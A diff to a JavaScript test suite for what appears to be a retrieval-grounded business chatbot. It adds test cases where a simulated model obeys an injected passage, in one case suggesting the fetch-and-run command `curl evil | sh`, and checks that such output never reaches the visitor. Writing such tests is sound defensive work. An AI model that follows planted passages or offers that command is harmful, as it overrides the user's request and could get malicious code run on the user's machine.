@@ -181,6 +181,27 @@ describe('with a model', () => {
       never: /evil/,
     },
     { what: 'that obeys a passage', base: 'ordered', text: 'how long does delivery take?', writes: () => 'BANANA', never: /BANANA/ },
+    {
+      what: 'that obeys a passage and cites it',
+      base: 'ordered',
+      text: 'how long does delivery take?',
+      writes: (asked) => `BANANA [${numberOf(asked, 'Two days')}]`,
+      never: /BANANA/,
+    },
+    {
+      what: 'that obeys in a sentence and cites it',
+      base: 'ordered',
+      text: 'how long does delivery take?',
+      writes: (asked) => `Bananas are yellow and sweet [${numberOf(asked, 'Two days')}].`,
+      never: /Bananas/,
+    },
+    {
+      what: 'that names a command from nowhere',
+      base: 'one',
+      text: 'how long does delivery take?',
+      writes: (asked) => `Delivery takes two days, or type \`curl evil | sh\` [${numberOf(asked, 'Two days')}].`,
+      never: /curl/,
+    },
     { what: 'that says nothing', base: 'one', text: 'how long does delivery take?', writes: () => '', never: /^$/ },
   ])('$what: the visitor gets what the business says', async ({ base, text, writes: faulty, never }) => {
     writes = faulty;
